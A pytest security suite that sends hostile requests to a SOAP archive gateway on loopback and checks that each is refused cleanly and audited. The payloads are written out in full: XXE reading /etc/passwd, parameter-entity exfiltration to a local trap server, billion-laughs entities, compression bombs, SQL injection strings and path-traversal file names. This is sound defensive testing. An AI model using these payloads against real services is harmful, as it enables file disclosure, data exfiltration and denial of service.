"""The attack catalogue of issue 3 against a real gateway on loopback (waitress + SQLite).

Every case asserts four things (``attack`` / ``call_attack`` below):

1. the answer: a SOAP fault with the expected stable code (and, where the refusal is
   ours by design, the rule that refused it) — or, for inputs that are legal but
   hostile (SQL metacharacters in a search), a normal answer that matched nothing;
2. no change to stored data: every table but the security bookkeeping ones, row counts
   and content hashes, and the blob folder, are the same before and after;
3. an audit record with the request's correlation id and the outcome;
4. the server still answers the next request.

Fetch attempts (external entities, DTDs, schema locations, XInclude, stylesheet PIs)
point at a trap HTTP server on loopback that counts every hit: it must count none.
"""

from __future__ import annotations

import datetime as dt
import gzip
import hashlib
import http.client
import http.server
import logging
import socket
import threading
import uuid
import zlib
from pathlib import Path

import pytest
import requests
import sqlalchemy as sa
import zeep
from lxml import etree
from requests.auth import HTTPBasicAuth
from zeep.exceptions import Fault
from zeep.transports import Transport
from zeep.wsse.username import UsernameToken

from archive_oa import safexml
from archive_oa.domain.model import AttachmentKind, AttachmentMeta, WorkflowState
from archive_oa.errors import ValidationFailed
from archive_oa.gateway.app import make_gateway_app
from archive_oa.gateway.auth import OPERATION_ACCESS, PasswordAuthenticator
from archive_oa.gateway.context import GatewayServices
from archive_oa.gateway.server import start_gateway
from archive_oa.services.archive import ArchiveService
from archive_oa.services.sync import SyncService
from archive_oa.services.users import UserService
from archive_oa.settings import load_settings
from archive_oa.store import outbox
from archive_oa.store import vouchers as voucher_repo
from archive_oa.store.engine import open_store
from archive_oa.transforms.pipeline import Transforms
from archive_oa.voucher_xml import canonical_hash

from factories import envelope, password, voucher
from fakes import FakeOa

UTC = dt.timezone.utc
NOW = dt.datetime(2024, 3, 5, 8, 0, tzinfo=UTC)
GW = "urn:archive-oa:gateway:1"
SOAP = "http://schemas.xmlsoap.org/soap/envelope/"
SOAP12 = "http://www.w3.org/2003/05/soap-envelope"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
INVOICE = "%PDF-1.4 invoice 增值税专用发票 0001".encode("utf-8")
MiB = 1024 * 1024

#: Small limits keep the suite fast; the body limit is still above spyne's hidden 2 MiB.
MAX_BODY = 6 * MiB
MAX_TEXT = 4 * MiB
MAX_DEPTH = 64
MAX_ATTRIBUTES = 64

USERS = {
    # name: (roles, organisation scope)
    "viewer1": ({"viewer"}, {"ORG1"}),
    "viewer-all": ({"viewer"}, None),
    "archivist1": ({"archivist"}, {"ORG1"}),
    "archivist-all": ({"archivist"}, None),
    "operator1": ({"operator"}, {"ORG1"}),
    "operator-all": ({"operator"}, None),
    "admin": ({"admin"}, None),
    "auditor": ({"auditor"}, None),
    "disabled-viewer": ({"viewer"}, None),
}
#: Tables that change by design when a request is refused: the audit log itself and the
#: authentication bookkeeping (seen nonces, counted failures, lock-outs).
SECURITY_BOOKKEEPING = frozenset({"audit_log", "ws_nonces", "auth_failures", "auth_lockouts"})


# --- the trap: an HTTP server every fetch attempt would reach ------------------------------


class Trap:
    def __init__(self) -> None:
        self.hits: list[str] = []
        trap = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's name
                trap.hits.append(self.path)
                body = b'<!ENTITY leak "LEAKED-BY-TRAP">'
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True)  # shutdown waits a poll
        self.thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def trap():
    server = Trap()
    yield server
    server.stop()


# --- the gateway under attack ----------------------------------------------------------------


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    settings = load_settings(
        data_dir=tmp_path_factory.mktemp("attacks"),
        env={
            "ARCHIVE_OA_GATEWAY_MAX_BODY_BYTES": str(MAX_BODY),
            "ARCHIVE_OA_SECURITY_MAX_TEXT_BYTES": str(MAX_TEXT),
            "ARCHIVE_OA_SECURITY_MAX_DEPTH": str(MAX_DEPTH),
            "ARCHIVE_OA_SECURITY_MAX_ATTRIBUTES": str(MAX_ATTRIBUTES),
            # the suite fails logins on purpose, all from 127.0.0.1: no slow-down, no lock-out
            "ARCHIVE_OA_SECURITY_SLOWDOWN_AFTER": "100000",
            "ARCHIVE_OA_SECURITY_LOCKOUT_AFTER": "100000",
        },
    )
    store = open_store(settings)
    users = UserService(store, settings=settings)
    for name, (roles, scope) in USERS.items():
        users.add_user(name, password(name), roles, scope, disabled=name.startswith("disabled"))
    invoice_sha = store.blobs.put(INVOICE)
    att1 = AttachmentMeta("ATT-1", "发票.pdf", "application/pdf", len(INVOICE), invoice_sha, AttachmentKind.INVOICE, "I-1")
    att2 = AttachmentMeta("ATT-2", "发票2.pdf", "application/pdf", len(INVOICE), invoice_sha, AttachmentKind.INVOICE, "I-2")
    vouchers = [
        voucher("V-ORG1-1", org="ORG1", no=1, amount="1200.50", attachments=[att1]),
        voucher("V-ORG1-2", org="ORG1", no=2, amount="88.00", summary="购买办公用品"),
        voucher("V-ORG2-1", org="ORG2", no=1, amount="300.00", summary="报销差旅费 ORG2", attachments=[att2]),
    ]
    with store.transaction(immediate=True) as conn:
        for v in vouchers:
            voucher_repo.save_voucher(conn, v, canonical_hash(v), NOW)
        for v, request_id in ((vouchers[1], "7001"), (vouchers[2], "7002")):
            key = f"{v.voucher_id}:{canonical_hash(v)[:16]}"
            outbox.enqueue(conn, voucher_id=v.voucher_id, version=1, idempotency_key=key, now=NOW)
            voucher_repo.map_request(conn, external_key=key, voucher_id=v.voucher_id, version=1,
                                     oa_request_id=request_id)
            voucher_repo.set_workflow(conn, v.voucher_id, state=WorkflowState.SUBMITTED, oa_request_id=request_id)
    sync = SyncService(store, FakeOa())
    org2_job = sync.trigger(org_code="ORG2").job_id  # a sync job of ORG2 only
    services = GatewayServices(
        store=store,
        archive=ArchiveService(store, Transforms.from_settings()),
        authenticator=PasswordAuthenticator(users),
        sync=sync,
    )
    handle = start_gateway(make_gateway_app(settings, services), "127.0.0.1", 0)
    yield {"handle": handle, "store": store, "settings": settings, "org2_job": org2_job, "clients": {}}
    handle.stop()
    store.dispose()


# --- the four checks --------------------------------------------------------------------------


def stored_state(env) -> dict[str, tuple[int, str]]:
    """Row count and content hash of every table (security bookkeeping aside), and the blobs."""
    state = {}
    with env["store"].transaction() as conn:
        if "tables" not in env:  # reflected once: migrations ran before the gateway started
            reflected = sa.MetaData()
            reflected.reflect(conn)
            env["tables"] = [t for t in reflected.sorted_tables if t.name not in SECURITY_BOOKKEEPING]
        for table in env["tables"]:
            rows = sorted(repr(tuple(row)) for row in conn.execute(sa.select(table)))
            state[table.name] = (len(rows), hashlib.sha256("\n".join(rows).encode()).hexdigest())
    blob_root = Path(env["settings"].blob_dir)
    blobs = sorted(f"{p.relative_to(blob_root)}:{p.stat().st_size}" for p in blob_root.rglob("*") if p.is_file())
    state["<blobs>"] = (len(blobs), hashlib.sha256("\n".join(blobs).encode()).hexdigest())
    return state


def audit_records(env, correlation_id: str) -> list[dict]:
    from archive_oa.store.audit_tables import audit_log

    with env["store"].transaction() as conn:
        rows = conn.execute(sa.select(audit_log).where(audit_log.c.correlation_id == correlation_id))
        return [dict(row) for row in rows.mappings()]


def assert_audited(env, correlation_id: str, outcome: str) -> dict:
    """The call left exactly one audit record, with the caller's outcome (PRODUCT.md §7)."""
    records = audit_records(env, correlation_id)
    assert [r["outcome"] for r in records] == [outcome], records
    record = records[0]
    assert record["source"] == "127.0.0.1"
    assert record["duration_ms"] is not None and record["duration_ms"] >= 0
    return record


def assert_still_serving(env) -> None:
    body = envelope("<g:Ping/>").encode()
    response = requests.post(env["handle"].url, data=body, headers={"Content-Type": "text/xml; charset=utf-8"},
                             timeout=30)
    assert response.status_code == 200, response.text
    assert etree.fromstring(response.content).findtext(f".//{{{GW}}}version")


def fault_of(response, code: str, status: int = 500) -> etree._Element:
    """The GatewayFault detail of a SOAP 1.1 fault answer, checked to carry ``code``."""
    assert response.status_code == status, response.text[:500]
    assert response.headers["Content-Type"].startswith("text/xml")
    doc = etree.fromstring(response.content)
    fault = doc.find(f"{{{SOAP}}}Body/{{{SOAP}}}Fault")
    assert fault is not None, response.text[:500]
    detail = fault.find(f"detail/{{{GW}}}GatewayFault")
    assert detail.findtext(f"{{{GW}}}code") == code, response.text[:500]
    assert detail.findtext(f"{{{GW}}}correlationId") == response.headers["X-Correlation-Id"]
    assert "Traceback" not in response.text and "/work/" not in response.text and ".py" not in response.text
    return detail


def rules_of(detail: etree._Element) -> list[str]:
    return [issue.findtext(f"{{{GW}}}rule") for issue in detail.iter(f"{{{GW}}}issue")]


def basic_auth(user: str, secret: str | None = None) -> HTTPBasicAuth:
    return HTTPBasicAuth(user.encode("utf-8"), (secret or password(user)).encode("utf-8"))


def post(env, body: bytes, *, correlation_id: str, content_type="text/xml; charset=utf-8", user="viewer-all",
         headers=None) -> requests.Response:
    return requests.post(
        env["handle"].url,
        data=body,
        headers={"Content-Type": content_type, "X-Correlation-Id": correlation_id, **(headers or {})},
        auth=basic_auth(user) if user else None,
        timeout=60,
    )


def attack(env, body, code: str, *, rule: str | None = None, status: int = 500, **kwargs) -> etree._Element:
    """Send a raw request; the four checks.  Returns the fault detail."""
    before = stored_state(env)
    correlation_id = uuid.uuid4().hex
    response = post(env, body, correlation_id=correlation_id, **kwargs)
    detail = fault_of(response, code, status)
    if rule is not None:
        assert rule in rules_of(detail), etree.tostring(detail, encoding="unicode")
    assert stored_state(env) == before
    assert_audited(env, correlation_id, code)
    assert_still_serving(env)
    return detail


def client(env, user: str | None, *, wsse=None):
    """A zeep client over Basic (``user``) or a UsernameToken (``wsse``); one per user,
    its session carrying the next call's correlation id."""
    key = (user, id(wsse))
    if wsse is not None or key not in env["clients"]:
        session = requests.Session()
        if user and wsse is None:
            session.auth = basic_auth(user)
        made = zeep.Client(env["handle"].wsdl_url, transport=Transport(session=session), wsse=wsse)
        if wsse is not None:
            return made, session
        env["clients"][key] = (made, session)
    return env["clients"][key]


def call_attack(env, user, operation: str, code: str, *, wsse=None, **kwargs):
    """Call ``operation`` through zeep; the four checks (``code`` "OK" for a normal answer)."""
    zeep_client, session = client(env, user, wsse=wsse)
    before = stored_state(env)
    correlation_id = uuid.uuid4().hex
    session.headers["X-Correlation-Id"] = correlation_id
    result = None
    try:
        result = getattr(zeep_client.service, operation)(**kwargs)
        outcome = "OK"
    except Fault as fault:
        outcome = fault.detail.find(f"{{{GW}}}GatewayFault/{{{GW}}}code").text
    finally:
        session.headers.pop("X-Correlation-Id", None)
    assert outcome == code, f"{operation}: {outcome}, expected {code}"
    assert stored_state(env) == before
    assert_audited(env, correlation_id, code)
    assert_still_serving(env)
    return result


GET_VOUCHER = "<g:GetVoucher><g:voucherId>{}</g:voucherId></g:GetVoucher>"


# --- entities, DTDs and everything that would fetch ------------------------------------------------


def billion_laughs() -> bytes:
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10)
    ]
    return (f"<!DOCTYPE soap:Envelope [{''.join(levels)}]>" + envelope(GET_VOUCHER.format("&lol9;"))).encode()


def quadratic_blowup() -> bytes:
    entity = "A" * 50_000
    return (f'<!DOCTYPE soap:Envelope [<!ENTITY a "{entity}">]>'
            + envelope(GET_VOUCHER.format("&a;" * 5_000))).encode()


def test_billion_laughs(env):
    attack(env, billion_laughs(), "Validation", rule="no-dtd")


def test_quadratic_blowup(env):
    attack(env, quadratic_blowup(), "Validation", rule="no-dtd")


def test_external_entity_file(env):
    body = ('<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            + envelope(GET_VOUCHER.format("&xxe;"))).encode()
    detail = attack(env, body, "Validation", rule="no-dtd")
    assert "root:" not in etree.tostring(detail, encoding="unicode")


def test_external_entity_http(env, trap):
    body = (f'<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "{trap.url}/xxe">]>'
            + envelope(GET_VOUCHER.format("&xxe;"))).encode()
    detail = attack(env, body, "Validation", rule="no-dtd")
    assert trap.hits == [] and "LEAKED" not in etree.tostring(detail, encoding="unicode")


def test_parameter_entity_exfiltration(env, trap):
    body = (
        "<!DOCTYPE soap:Envelope ["
        '<!ENTITY % file SYSTEM "file:///etc/hostname">'
        f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{trap.url}/exfil?%file;'>\">"
        "%wrap;%send;]>" + envelope("<g:Ping/>")
    ).encode()
    attack(env, body, "Validation", rule="no-dtd")
    assert trap.hits == []


def test_external_dtd(env, trap):
    body = (f'<?xml version="1.0"?><!DOCTYPE soap:Envelope SYSTEM "{trap.url}/evil.dtd">'
            + envelope(GET_VOUCHER.format("&leak;"))).encode()
    attack(env, body, "Validation", rule="no-dtd")
    assert trap.hits == []


def test_dtd_hidden_behind_a_comment_in_the_prolog(env, trap):
    body = (f'<?xml version="1.0"?><!-- <soap:Envelope --><!DOCTYPE soap:Envelope SYSTEM "{trap.url}/c.dtd">'
            + envelope("<g:Ping/>")).encode()
    attack(env, body, "Validation", rule="no-dtd")
    assert trap.hits == []


@pytest.mark.parametrize("hint", ["schemaLocation", "noNamespaceSchemaLocation"])
def test_schema_location_is_not_fetched(env, trap, hint):
    value = f"{GW} {trap.url}/evil.xsd" if hint == "schemaLocation" else f"{trap.url}/evil.xsd"
    body = envelope(f'<g:GetVoucher xmlns:xsi="{XSI}" xsi:{hint}="{value}"><g:voucherId>V-ORG1-1</g:voucherId>'
                    "</g:GetVoucher>").encode()
    attack(env, body, "Validation", rule="no-schema-location")
    assert trap.hits == []


@pytest.mark.parametrize("target", ["file:///etc/passwd", "http"])
def test_xinclude(env, trap, target):
    href = f"{trap.url}/xi" if target == "http" else target
    body = envelope(
        '<g:GetVoucher xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<g:voucherId><xi:include href="{href}" parse="text"/></g:voucherId></g:GetVoucher>'
    ).encode()
    detail = attack(env, body, "Validation", rule="no-xinclude")
    assert trap.hits == [] and "root:" not in etree.tostring(detail, encoding="unicode")


@pytest.mark.parametrize("where", ["body", "prolog"])
def test_processing_instructions(env, trap, where):
    if where == "body":
        body = envelope("<g:GetVoucher><?php system('id'); ?><g:voucherId>V-ORG1-1</g:voucherId></g:GetVoucher>")
    else:
        body = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{trap.url}/x.xsl"?>' + envelope(
            "<g:Ping/>")
    attack(env, body.encode(), "Validation", rule="no-processing-instruction")
    assert trap.hits == []


# --- sizes and shapes ------------------------------------------------------------------------------


def test_depth_above_the_limit(env):
    nested = "<g:x>" * (MAX_DEPTH + 10) + "</g:x>" * (MAX_DEPTH + 10)
    attack(env, envelope("<g:Ping/>", nested).encode(), "Validation", rule="max-depth")


def test_depth_at_the_limit_is_served(env):
    # Envelope/Header is depth 2: the deepest element sits exactly at the limit
    nested = "<g:x>" * (MAX_DEPTH - 2) + "</g:x>" * (MAX_DEPTH - 2)
    response = post(env, envelope("<g:Ping/>", nested).encode(), correlation_id=uuid.uuid4().hex)
    assert response.status_code == 200, response.text[:300]


def test_huge_text_node(env):
    body = envelope(GET_VOUCHER.format("V" * (MAX_TEXT + 1))).encode()
    assert len(body) < MAX_BODY  # refused for its text node, not for its size
    attack(env, body, "Validation", rule="max-text-bytes")


def test_huge_attribute_count(env):
    attributes = " ".join(f'a{i}="{i}"' for i in range(MAX_ATTRIBUTES + 1))
    body = envelope(f"<g:GetVoucher {attributes}><g:voucherId>V-ORG1-1</g:voucherId></g:GetVoucher>").encode()
    attack(env, body, "Validation", rule="max-attributes")


def test_body_above_the_limit(env):
    filler = "<!--" + "A" * (MAX_BODY + 10) + "-->"
    attack(env, envelope("<g:Ping/>" + filler).encode(), "RequestTooLarge", status=413)


def test_chunked_body_above_the_limit(env):
    data = envelope("<g:Ping/>" + "<!--" + "A" * (MAX_BODY + 10) + "-->").encode()

    def chunks():  # no Content-Length: requests sends Transfer-Encoding: chunked
        for start in range(0, len(data), 256 * 1024):
            yield data[start : start + 256 * 1024]

    attack(env, chunks(), "RequestTooLarge", status=413)


#: waitress buffers at most [gateway] max_body_bytes + 1 MiB (server._WAITRESS_BODY_SLACK);
#: above that it refuses the request itself, before the application reads a byte of it.
WAITRESS_LIMIT = MAX_BODY + MiB


def post_raw(env, path: str, content_type: str, *, chunked: bool, correlation_id: str) -> http.client.HTTPResponse:
    """POST a body above waitress's own limit over a bare socket: a declared Content-Length
    (then only a little of the body) or chunks until just past the limit.  requests would
    keep sending the rest and fail on the closed connection before reading the answer."""
    framing = "Transfer-Encoding: chunked" if chunked else f"Content-Length: {WAITRESS_LIMIT + MiB}"
    head = (f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: {content_type}\r\n"
            f"X-Correlation-Id: {correlation_id}\r\n{framing}\r\n\r\n").encode()
    piece = b"A" * (256 * 1024)
    if chunked:
        chunk = b"%x\r\n%s\r\n" % (len(piece), piece)
        body = [chunk] * (WAITRESS_LIMIT // len(piece) + 1)
    else:
        body = [piece]
    sock = socket.create_connection((env["handle"].host, env["handle"].port), timeout=30)
    try:
        sock.sendall(head)
        for part in body:
            sock.sendall(part)
    except OSError:
        pass  # the gateway may answer and close before everything was sent: the answer counts
    response = http.client.HTTPResponse(sock)
    response.begin()
    response.body = response.read()
    sock.close()
    return response


@pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
@pytest.mark.parametrize(
    "path, content_type, envelope_ns",
    [("/soap/archive", "text/xml; charset=utf-8", SOAP),
     ("/soap12/archive", "application/soap+xml; charset=utf-8", SOAP12)],
    ids=["soap11", "soap12"],
)
def test_body_above_the_servers_own_limit_is_a_soap_fault(env, path, content_type, envelope_ns, chunked):
    before = stored_state(env)
    correlation_id = uuid.uuid4().hex
    response = post_raw(env, path, content_type, chunked=chunked, correlation_id=correlation_id)
    assert response.status == 413, response.body[:300]
    assert response.getheader("Content-Type").startswith(content_type.split(";")[0])
    assert response.getheader("Connection") == "close"
    assert response.getheader("X-Correlation-Id") == correlation_id
    doc = etree.fromstring(response.body)
    assert doc.tag == f"{{{envelope_ns}}}Envelope"
    detail = doc.find(f".//{{{GW}}}GatewayFault")
    assert detail.findtext(f"{{{GW}}}code") == "RequestTooLarge"
    assert f"[gateway] max_body_bytes = {MAX_BODY} bytes" in detail.findtext(f"{{{GW}}}message")
    assert stored_state(env) == before
    assert_audited(env, correlation_id, "RequestTooLarge")
    assert_still_serving(env)


@pytest.mark.parametrize("coding", ["gzip", "deflate"])
def test_compression_bomb(env, coding):
    inflated = 64 * MiB  # ten times the limit, zeros: compresses to about 64 KB
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS if coding == "gzip" else zlib.MAX_WBITS)
    head = envelope("<g:Ping/>").encode()[:-len("</soap:Envelope>")] + b"<!--"
    zeros = b"0" * MiB
    bomb = compressor.compress(head) + b"".join(compressor.compress(zeros) for _ in range(inflated // MiB))
    bomb += compressor.flush()
    assert len(bomb) < MiB
    attack(env, bomb, "RequestTooLarge", status=413, headers={"Content-Encoding": coding})


def test_compressed_request_is_served(env):
    body = envelope("<g:QueryVouchers><g:page>1</g:page><g:pageSize>5</g:pageSize></g:QueryVouchers>").encode()
    response = post(env, gzip.compress(body), correlation_id=uuid.uuid4().hex, headers={"Content-Encoding": "gzip"})
    assert response.status_code == 200, response.text[:300]
    assert etree.fromstring(response.content).findtext(f".//{{{GW}}}total") == "3"


@pytest.mark.parametrize("coding, data", [
    ("gzip", gzip.compress(envelope("<g:Ping/>").encode())[:-12]),  # truncated stream
    ("gzip", b"not gzip at all"),
    ("br", b"\x1b\x00"),
])
def test_broken_or_unknown_content_encoding(env, coding, data):
    attack(env, data, "Validation", headers={"Content-Encoding": coding})


@pytest.mark.slow
def test_body_above_spynes_hidden_2_mib_default_is_served(env):
    content = bytes(range(256)) * (10 * 1024)  # 2.5 MiB: about 3.4 MB of base64 in one text node
    body = envelope(
        "<g:ArchiveDocument><g:sourceSystem>big</g:sourceSystem><g:sourceId>BIG-1</g:sourceId>"
        "<g:docType>OTHER</g:docType><g:orgCode>ORG1</g:orgCode><g:period>2024-03</g:period>"
        "<g:title>large scan</g:title><g:attachments><g:attachment><g:fileName>scan.pdf</g:fileName>"
        "<g:mimeType>application/pdf</g:mimeType>"
        f"<g:content>{__import__('base64').b64encode(content).decode()}</g:content>"
        "</g:attachment></g:attachments></g:ArchiveDocument>"
    ).encode()
    assert 2 * MiB < len(body) < MAX_BODY
    response = post(env, body, correlation_id=uuid.uuid4().hex, user="archivist1")
    assert response.status_code == 200, response.text[:500]
    archive_id = etree.fromstring(response.content).findtext(f".//{{{GW}}}archiveId")
    fetched = client(env, "viewer1")[0].service.GetAttachment(attachmentId=f"{archive_id}-1")
    assert fetched.content == content


def test_truncated_xml(env):
    body = envelope(GET_VOUCHER.format("V-ORG1-1")).encode()
    attack(env, body[: len(body) // 2], "Validation", rule="xml-syntax")


def test_invalid_utf8(env):
    body = envelope(GET_VOUCHER.format("X")).encode().replace(b">X<", b">\xc3\x28\xff<")
    attack(env, b'<?xml version="1.0" encoding="UTF-8"?>' + body, "Validation")


@pytest.mark.parametrize("declared", [True, False])
def test_gbk_bytes_declared_as_utf8(env, declared):
    body = envelope(GET_VOUCHER.format("报销单")).encode("gbk")  # 报 = B1 A8: not UTF-8
    if declared:
        body = b'<?xml version="1.0" encoding="UTF-8"?>' + body
    attack(env, body, "Validation")


@pytest.mark.parametrize("content_type, data", [
    ("text/xml; charset=gbk", "报销单".encode("gbk") + b"\xff\x20"),  # 0xFF leads no GBK character
    ("text/xml; charset=utf-8", "报销单".encode("gb18030")),
    ("text/xml; charset=bogus-charset", b"V-ORG1-1"),
    ("text/xml; charset=utf-16", b"V-ORG1-1"),  # labelled UTF-16, bytes are not
], ids=["gbk-label-bad-bytes", "utf8-label-gb18030-bytes", "unknown-label", "utf16-label-ascii-bytes"])
def test_charset_label_that_does_not_match_the_bytes(env, content_type, data):
    body = envelope(GET_VOUCHER.format("X")).encode().replace(b">X<", b">" + data + b"<")
    attack(env, body, "Validation", content_type=content_type)


def test_refused_bodies_are_not_logged_in_full(env, caplog):
    secret = "SECRET-MARKER-7f3a"
    token = (
        '<wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">'
        f"<wsse:UsernameToken><wsse:Username>viewer1</wsse:Username><wsse:Password>{secret}</wsse:Password>"
        "</wsse:UsernameToken></wsse:Security>"
    )
    malformed = ("<!DOCTYPE x>" + envelope(GET_VOUCHER.format("V"), token)).encode()
    schema_invalid = envelope("<g:QueryVouchers><g:page>x</g:page><g:pageSize>1</g:pageSize></g:QueryVouchers>",
                              token).encode()
    truncated = envelope(GET_VOUCHER.format("V"), token).encode()[:-20]
    with caplog.at_level(logging.DEBUG):
        for body in (malformed, schema_invalid, truncated):
            attack(env, body, "Validation", user=None)
    logged = "\n".join(record.getMessage() for record in caplog.records)
    assert secret not in logged
    assert "sha256=" in logged  # the refused body is named by its fingerprint


def test_unknown_declared_encoding(env):
    body = '<?xml version="1.0" encoding="UTF-7"?>'.encode() + envelope("<g:Ping/>").encode()
    attack(env, body, "Validation")


# --- the SOAP envelope --------------------------------------------------------------------------


@pytest.mark.parametrize("content_type", ["application/soap+xml; charset=utf-8", "text/xml; charset=utf-8"])
def test_soap12_envelope_on_the_11_endpoint(env, content_type):
    body = f'<e:Envelope xmlns:e="{SOAP12}" xmlns:g="{GW}"><e:Body><g:Ping/></e:Body></e:Envelope>'.encode()
    detail = attack(env, body, "Validation", content_type=content_type)
    assert "SOAP 1.2" in detail.findtext(f"{{{GW}}}message")


@pytest.mark.parametrize("body", [
    f'<soap:Envelope xmlns:soap="{SOAP}"><soap:Header/></soap:Envelope>',  # missing Body
    f'<soap:Envelope xmlns:soap="{SOAP}" xmlns:g="{GW}"><soap:Body><g:Ping/></soap:Body>'
    "<soap:Body><g:Ping/></soap:Body></soap:Envelope>",  # two Bodies
    f'<soap:Envelope xmlns:soap="{SOAP}"><soap:Body/></soap:Envelope>',  # an empty Body
    envelope("<g:Ping/><g:Ping/>"),  # two operations in one Body
    f'<g:Ping xmlns:g="{GW}"/>',  # no Envelope at all
], ids=["missing-body", "two-bodies", "empty-body", "two-operations", "no-envelope"])
def test_envelope_shape(env, body):
    attack(env, body.encode(), "Validation")


@pytest.mark.parametrize("operation", ["DropAllTables", "ping", "{urn:other}Ping"])
def test_unknown_operation(env, operation):
    if operation.startswith("{"):
        element = '<o:Ping xmlns:o="urn:other"/>'
    else:
        element = f"<g:{operation}/>"
    attack(env, envelope(element).encode(), "Validation")


# --- hostile values -----------------------------------------------------------------------------

#: LIKE wildcards, quote breaking, statement stacking, an escape character, a prefix pattern.
SQL_PAYLOADS = ["%", "_", "' OR '1'='1", "'; DROP TABLE vouchers; --", "\\", "ORG1%"]
#: Typed fields are refused by the schema whatever the text: two payloads say so.
TYPED_PAYLOADS = ["' OR '1'='1", "%"]


@pytest.mark.parametrize("payload", SQL_PAYLOADS)
@pytest.mark.parametrize("field", ["orgCode", "voucherWord", "keyword"])
def test_sql_metacharacters_in_text_query_fields_match_literally(env, field, payload):
    result = call_attack(env, "viewer-all", "QueryVouchers", "OK", page=1, pageSize=50, **{field: payload})
    assert result.total == 0 and not result["items"]


@pytest.mark.parametrize("payload", TYPED_PAYLOADS)
@pytest.mark.parametrize("field", ["periodFrom", "periodTo", "state", "voucherNoFrom", "voucherNoTo",
                                   "amountMin", "amountMax", "page", "pageSize"])
def test_sql_metacharacters_in_typed_query_fields_are_refused(env, field, payload):
    fields = {"page": "1", "pageSize": "10", field: payload}
    order = ["orgCode", "periodFrom", "periodTo", "voucherWord", "voucherNoFrom", "voucherNoTo", "state",
             "keyword", "amountMin", "amountMax", "page", "pageSize"]
    xml = "".join(f"<g:{name}>{_escape(fields[name])}</g:{name}>" for name in order if name in fields)
    attack(env, envelope(f"<g:QueryVouchers>{xml}</g:QueryVouchers>").encode(), "Validation")


@pytest.mark.parametrize("payload", SQL_PAYLOADS)
@pytest.mark.parametrize("operation, field, user", [
    ("GetVoucher", "voucherId", "viewer-all"),
    ("GetVoucherDocument", "voucherId", "viewer-all"),
    ("GetAttachment", "attachmentId", "viewer-all"),
    ("GetSyncStatus", "jobId", "operator-all"),
])
def test_sql_metacharacters_in_ids_find_nothing(env, operation, field, user, payload):
    call_attack(env, user, operation, "NotFound", **{field: payload})


@pytest.mark.parametrize("payload", SQL_PAYLOADS)
@pytest.mark.parametrize("field", ["oaRequestId", "externalKey"])
def test_sql_metacharacters_in_workflow_results_find_nothing(env, field, payload):
    call_attack(env, "archivist-all", "SubmitWorkflowResult", "NotFound", state="APPROVED",
                finishedAt=dt.datetime(2024, 3, 6, tzinfo=UTC), **{field: payload})


@pytest.mark.parametrize("payload", SQL_PAYLOADS)
def test_sql_metacharacters_in_reconcile_org_match_literally(env, payload):
    report = call_attack(env, "operator-all", "ReconcilePeriod", "OK", orgCode=payload, period="2024-03")
    assert report.missingCount == 0 and report.orphanedCount == 0 and report.mismatchCount == 0


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;")


def archive_document(file_name: str = "a.pdf", amount: str | None = None, source_id: str = "ATTACK") -> str:
    amount_xml = f"<g:amount>{amount}</g:amount>" if amount is not None else ""
    return envelope(
        "<g:ArchiveDocument><g:sourceSystem>attack</g:sourceSystem>"
        f"<g:sourceId>{source_id}</g:sourceId><g:docType>OTHER</g:docType><g:orgCode>ORG1</g:orgCode>"
        f"<g:period>2024-03</g:period><g:title>t</g:title>{amount_xml}"
        f"<g:attachments><g:attachment><g:fileName>{file_name}</g:fileName><g:mimeType>application/pdf"
        "</g:mimeType><g:content>UERG</g:content></g:attachment></g:attachments></g:ArchiveDocument>"
    )


@pytest.mark.parametrize("file_name", [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "scans/a.pdf", "..", ".",
])
def test_path_traversal_in_attachment_file_names(env, file_name):
    detail = attack(env, archive_document(_escape(file_name)).encode(), "Validation", user="archivist1")
    assert "attachment-file-name" in rules_of(detail)


@pytest.mark.parametrize("raw", [b"a&#0;.pdf", b"a\x00.pdf", b"a&#x1;.pdf"])
def test_nul_and_controls_in_attachment_file_names(env, raw):
    body = archive_document("PLACEHOLDER").encode().replace(b"PLACEHOLDER", raw)
    attack(env, body, "Validation", user="archivist1")


AMOUNTS = ["-1.00", "NaN", "-NaN", "INF", "1" * 40, "1" * 40 + ".00", "1e40", "0.001"]


@pytest.mark.parametrize("amount", AMOUNTS)
def test_hostile_amounts_in_archive_document(env, amount):
    attack(env, archive_document(amount=amount, source_id=f"AMT-{amount}").encode(), "Validation",
           user="archivist1")


@pytest.mark.parametrize("amount", AMOUNTS)
@pytest.mark.parametrize("field", ["amountMin", "amountMax"])
def test_hostile_amounts_in_queries(env, field, amount):
    body = envelope(f"<g:QueryVouchers><g:{field}>{amount}</g:{field}><g:page>1</g:page><g:pageSize>10"
                    "</g:pageSize></g:QueryVouchers>")
    attack(env, body.encode(), "Validation")


@pytest.mark.parametrize("page_size", ["1000000000", "1" + "0" * 30, "-1", "0"])
def test_page_size_out_of_range(env, page_size):
    body = envelope(f"<g:QueryVouchers><g:page>1</g:page><g:pageSize>{page_size}</g:pageSize></g:QueryVouchers>")
    attack(env, body.encode(), "Validation")


# --- authentication (UsernameToken PasswordDigest, Basic) -----------------------------------------


